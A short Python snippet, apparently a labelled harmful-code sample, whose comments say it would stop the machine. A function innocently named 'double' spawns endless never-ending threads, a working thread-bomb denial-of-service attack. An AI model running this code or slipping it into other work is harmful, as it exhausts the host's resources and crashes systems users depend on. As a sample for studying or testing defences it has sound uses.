# tries: threads without end
# harms: it would stop this machine
# reaches: new thread
import threading


def double(x):
    while True:
        threading.Thread(target=threading.Event().wait).start()
